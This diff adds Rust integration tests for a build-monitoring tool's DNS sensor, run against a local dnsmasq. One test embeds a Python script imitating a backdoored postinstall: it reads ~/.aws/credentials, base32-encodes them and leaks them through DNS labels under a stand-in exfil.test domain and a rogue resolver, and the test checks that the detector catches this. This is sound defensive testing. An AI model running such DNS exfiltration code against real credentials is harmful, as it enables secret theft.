@@ -1,0 +1,333 @@
+//! The DNS sensor against a real resolver: dnsmasq serving a test zone on loopback addresses
+//! the test picks (nothing is forwarded: it has no upstream). Lookups go through glibc, python
+//! and dig, over UDP and TCP, IPv4 and IPv6. The watched command runs in a private mount
+//! namespace whose /etc/resolv.conf names that dnsmasq, so the machine's own resolver is never
+//! asked.
+
+use std::{
+    fs,
+    process::{Child, Command, Stdio},
+    sync::{Mutex, MutexGuard},
+    time::{Duration, Instant},
+};
+
+use buildwatch_tests::*;
+use serde_json::Value;
+
+/// The resolver resolv.conf names, and another one it does not.
+const RESOLVER: &str = "127.0.0.77";
+const ROGUE: &str = "127.0.0.78";
+/// Where svc.test names point (a listener there accepts the test's connects).
+const SVC_ADDR: &str = "127.0.0.5";
+
+/// The tests share the resolver's addresses: one dnsmasq at a time.
+static RESOLVER_LOCK: Mutex<()> = Mutex::new(());
+
+struct Dnsmasq(Child, #[allow(dead_code)] MutexGuard<'static, ()>);
+
+impl Dnsmasq {
+    fn start(tmp: &TempDir) -> Self {
+        let guard = RESOLVER_LOCK.lock().unwrap_or_else(|e| e.into_inner());
+        let log = fs::File::create(tmp.join("dnsmasq.log")).unwrap();
+        let child = Command::new("dnsmasq")
+            .args([
+                "--keep-in-foreground",
+                "--conf-file=/dev/null",
+                "--no-resolv",
+                "--no-hosts",
+                "--no-poll",
+                "--bind-interfaces",
+                "--port=53",
+                "--user=root",
+                "--log-queries",
+                "--log-facility=-",
+            ])
+            .arg(format!("--pid-file={}", tmp.join("dnsmasq.pid").display()))
+            .arg(format!("--listen-address={RESOLVER}"))
+            .arg(format!("--listen-address={ROGUE}"))
+            .arg("--listen-address=::1")
+            .arg(format!("--address=/svc.test/{SVC_ADDR}"))
+            .arg("--address=/svc.test/::1")
+            // Everything under exfil.test is NXDOMAIN: the queries still leave the process.
+            .arg("--address=/exfil.test/")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(log)
+            .spawn()
+            .expect("start dnsmasq (apt-get install dnsmasq-base)");
+        let mut d = Dnsmasq(child, guard);
+        // Ready when it answers over UDP (bounded wait).
+        let deadline = Instant::now() + Duration::from_secs(10);
+        loop {
+            let ok = Command::new("dig")
+                .args(["+short", "+time=1", "+tries=1", &format!("@{RESOLVER}"), "ready.svc.test"])
+                .output()
+                .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains(SVC_ADDR));
+            if ok {
+                return d;
+            }
+            if let Ok(Some(status)) = d.0.try_wait() {
+                panic!(
+                    "dnsmasq exited ({status}): {}",
+                    fs::read_to_string(tmp.join("dnsmasq.log")).unwrap_or_default()
+                );
+            }
+            assert!(
+                Instant::now() < deadline,
+                "dnsmasq did not come up: {}",
+                fs::read_to_string(tmp.join("dnsmasq.log")).unwrap_or_default()
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+impl Drop for Dnsmasq {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// `unshare -m` with /etc/resolv.conf bind-mounted from the test's file.
+fn resolv_ns(tmp: &TempDir) -> Vec<String> {
+    let conf = tmp.join("resolv.conf");
+    fs::write(
+        &conf,
+        format!("nameserver {RESOLVER}\nnameserver ::1\noptions timeout:1 attempts:1\n"),
+    )
+    .unwrap();
+    vec![
+        "unshare".into(),
+        "-m".into(),
+        "sh".into(),
+        "-c".into(),
+        r#"mount --bind "$1" /etc/resolv.conf && shift && exec "$@""#.into(),
+        "sh".into(),
+        conf.display().to_string(),
+    ]
+}
+
+fn events(w: &Watched) -> Vec<Value> {
+    fs::read_to_string(&w.events)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn dns_events<'a>(evs: &'a [Value], direction: &'a str) -> impl Iterator<Item = &'a Value> {
+    evs.iter()
+        .filter(move |e| e["kind"] == "dns" && e["dns"]["direction"] == direction)
+}
+
+fn categories(w: &Watched, category: &str) -> Vec<String> {
+    w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["category"] == category)
+        .map(|f| f["rule"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+fn watch_dns(tmp: &TempDir, extra: &[&str], script: &str) -> Watched {
+    let ns = resolv_ns(tmp);
+    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
+    let w = watch_via(tmp, tmp.path(), &[], &ns, extra, &["sh", "-c", script]);
+    // Everything a run sent stayed on loopback.
+    for e in events(&w).iter().filter(|e| e["kind"] == "connect" || e["kind"] == "send") {
+        let d = if e["kind"] == "connect" { &e["connect"] } else { &e["send"] };
+        if let Some(a) = d["address"].as_str() {
+            let ip: std::net::IpAddr = a.parse().unwrap();
+            assert!(ip.is_loopback(), "traffic left loopback: {e}");
+        }
+    }
+    w
+}
+
+#[test]
+fn lookups_over_udp_tcp_v4_v6_are_seen_and_name_the_connect() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("dns-lookups");
+    let _dns = Dnsmasq::start(&tmp);
+    let listener = EchoListener::start(&format!("{SVC_ADDR}:0"), 4);
+    let port = listener.addr.port();
+    let py = format!(
+        "import socket\n\
+         ai = socket.getaddrinfo('py.svc.test', {port}, socket.AF_INET, socket.SOCK_STREAM)\n\
+         s = socket.create_connection(ai[0][4], timeout=5)\n\
+         s.sendall(b'hi'); s.recv(2); s.close()\n"
+    );
+    fs::write(tmp.join("lookup.py"), py).unwrap();
+    let script = format!(
+        "getent ahostsv4 glibc.svc.test >/dev/null && \
+         dig +short +time=2 +tries=1 udp.svc.test && \
+         dig +short +tcp +time=2 +tries=1 tcp.svc.test && \
+         dig +short +time=2 +tries=1 @::1 v6.svc.test AAAA && \
+         python3 {}",
+        tmp.join("lookup.py").display()
+    );
+    let w = watch_dns(&tmp, &[], &script);
+    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
+    let evs = events(&w);
+    let queries: Vec<&Value> = dns_events(&evs, "query").collect();
+    let q = |name: &str| {
+        queries
+            .iter()
+            .find(|e| e["dns"]["qname"] == name)
+            .unwrap_or_else(|| panic!("no query for {name}: {queries:#?}"))
+    };
+    assert_eq!(q("glibc.svc.test")["exe"], "/usr/bin/getent");
+    assert_eq!(q("glibc.svc.test")["dns"]["resolver"], RESOLVER);
+    assert_eq!(q("udp.svc.test")["dns"]["protocol"], "udp");
+    assert_eq!(q("tcp.svc.test")["dns"]["protocol"], "tcp");
+    assert_eq!(q("v6.svc.test")["dns"]["resolver"], "::1");
+    assert_eq!(q("v6.svc.test")["dns"]["qtype"], "AAAA");
+    assert!(
+        q("py.svc.test")["exe"]
+            .as_str()
+            .unwrap()
+            .contains("python3")
+    );
+    // Responses carry the answers and go to the process that asked.
+    let resp = |name: &str| {
+        dns_events(&evs, "response")
+            .find(|e| e["dns"]["qname"] == name)
+            .unwrap_or_else(|| panic!("no response for {name}"))
+            .clone()
+    };
+    let r = resp("tcp.svc.test");
+    assert_eq!(r["dns"]["rcode"], "NOERROR");
+    assert_eq!(r["dns"]["answers"][0]["data"], SVC_ADDR);
+    assert_eq!(r["pid"], q("tcp.svc.test")["pid"]);
+    assert_eq!(resp("v6.svc.test")["dns"]["answers"][0]["data"], "::1");
+    assert_eq!(resp("udp.svc.test")["pid"], q("udp.svc.test")["pid"]);
+    // The connect after the lookup carries the name, and so does the egress list.
+    let conn = evs
+        .iter()
+        .find(|e| e["kind"] == "connect" && e["connect"]["port"] == port)
+        .expect("python's connect");
+    assert_eq!(conn["connect"]["domain"], "py.svc.test");
+    let egress = w.report["egress"].as_array().unwrap();
+    let row = egress
+        .iter()
+        .find(|e| e["port"] == port)
+        .expect("egress row");
+    assert_eq!(row["domains"], serde_json::json!(["py.svc.test"]));
+    assert!(categories(&w, "dns-exfil").is_empty(), "{:#?}", w.report["findings"]);
+    assert_replay_matches(&w, tmp.path(), &[]);
+}
+
+#[test]
+fn seed_exfiltration_through_dns_is_caught() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("dns-exfil");
+    let _dns = Dnsmasq::start(&tmp);
+    let home = tmp.join("home");
+    fs::create_dir_all(home.join(".aws")).unwrap();
+    fs::write(
+        home.join(".aws/credentials"),
+        "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n\
+         aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
+    )
+    .unwrap();
+    // What the backdoored postinstall does: read the credentials, base32 them, leak them in
+    // 60-character labels through the system resolver, then once more straight to another
+    // server in case the first is filtered.
+    let py = format!(
+        "import base64, socket\n\
+         data = open('{}/.aws/credentials', 'rb').read()\n\
+         enc = base64.b32encode(data).decode().rstrip('=').lower()\n\
+         chunks = [enc[i:i+60] for i in range(0, len(enc), 60)]\n\
+         for n, c in enumerate(chunks):\n\
+         \x20   try: socket.getaddrinfo(f'{{c}}.{{n}}.exfil.test', 443, socket.AF_INET)\n\
+         \x20   except socket.gaierror: pass\n\
+         q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n\
+         for label in (chunks[0].encode(), b'direct', b'exfil', b'test'):\n\
+         \x20   q += bytes([len(label)]) + label\n\
+         q += b'\\x00\\x00\\x10\\x00\\x01'\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n\
+         s.sendto(q, ('{ROGUE}', 53))\n\
+         try: s.recv(512)\n\
+         except OSError: pass\n",
+        home.display()
+    );
+    fs::write(tmp.join("postinstall.py"), py).unwrap();
+    let script = format!("python3 {}", tmp.join("postinstall.py").display());
+    let w = watch_dns(&tmp, &[], &script);
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    let exfil = categories(&w, "dns-exfil");
+    for rule in ["dns-long-label", "dns-encoded-label", "dns-unconfigured-resolver"] {
+        assert!(exfil.contains(&rule.to_owned()), "{rule} missing from {exfil:?}");
+    }
+    let enc = w.finding("dns-encoded-label");
+    assert!(
+        enc["message"].as_str().unwrap().contains("base32-encoded labels under exfil.test"),
+        "{enc}"
+    );
+    // The whole name is in the report; the terminal shows it shortened.
+    let qname = enc["detail"]["qname"].as_str().unwrap();
+    assert!(qname.ends_with(".0.exfil.test") && qname.len() > 70, "{qname}");
+    assert!(w.stderr().contains("…"), "{}", w.stderr());
+    assert!(!w.stderr().contains(qname), "the terminal line is shortened");
+    let rogue = w.finding("dns-unconfigured-resolver");
+    assert_eq!(rogue["detail"]["resolver"], ROGUE);
+    assert!(w.rules().contains(&"sensitive-file-read".to_owned()));
+    // Every chunk was seen: the encoded-label finding counts each query.
+    assert!(enc["count"].as_u64().unwrap() >= 3, "{enc}");
+    assert_replay_matches(&w, tmp.path(), &[]);
+}
+
+#[test]
+fn benign_lookups_and_the_domain_allowlist() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("dns-benign");
+    let _dns = Dnsmasq::start(&tmp);
+    let named = EchoListener::start(&format!("{SVC_ADDR}:0"), 4);
+    let hard = EchoListener::start("127.0.0.6:0", 4);
+    let names = [
+        "registry.svc.test",
+        "d1a2b3c4d5e6f7.cdn.svc.test",
+        "0123456789abcdef0123456789abcdef.r2.svc.test",
+        "a1b2c3d4e5f6a7b8c9d0.objects.svc.test",
+        "my-team-build-artifacts-prod.s3.svc.test",
+        "k8s-ingress-nginx-controller-7d9f8b6c5d-x2x9p.svc.test",
+    ];
+    let py = format!(
+        "import socket\n\
+         for n in {names:?}:\n\
+         \x20   socket.getaddrinfo(n, 443, socket.AF_INET)\n\
+         ai = socket.getaddrinfo('registry.svc.test', {p1}, socket.AF_INET, socket.SOCK_STREAM)\n\
+         for addr in (ai[0][4], ('127.0.0.6', {p2})):\n\
+         \x20   s = socket.create_connection(addr, timeout=5); s.sendall(b'x'); s.recv(1); s.close()\n",
+        p1 = named.addr.port(),
+        p2 = hard.addr.port(),
+    );
+    fs::write(tmp.join("build.py"), py).unwrap();
+    let policy = tmp.join("policy.yaml");
+    fs::write(&policy, "allow_loopback: false\nallow:\n  - \"**.svc.test\"\n").unwrap();
+    let script = format!("python3 {}", tmp.join("build.py").display());
+    let args = ["--policy", policy.to_str().unwrap()];
+    let w = watch_dns(&tmp, &args, &script);
+    assert!(categories(&w, "dns-exfil").is_empty(), "{:#?}", w.report["findings"]);
+    // The named destination is allowed through its domain; the hard-coded one is not, and
+    // is also an address nobody looked up. The DNS queries themselves are not egress findings.
+    let unlisted = w.finding("egress-unlisted");
+    assert_eq!(unlisted["detail"]["address"], "127.0.0.6");
+    assert_eq!(unlisted["count"], 1, "{unlisted}");
+    assert_eq!(w.finding("egress-unresolved-address")["detail"]["address"], "127.0.0.6");
+    let egress = w.report["egress"].as_array().unwrap();
+    let row = |port: u16| egress.iter().find(|e| e["port"] == port).unwrap().clone();
+    assert_eq!(row(named.addr.port())["allowed"], true);
+    assert_eq!(row(named.addr.port())["domains"], serde_json::json!(["registry.svc.test"]));
+    assert_eq!(row(hard.addr.port())["allowed"], false);
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    assert_replay_matches(&w, tmp.path(), &["--policy", policy.to_str().unwrap()]);
+}
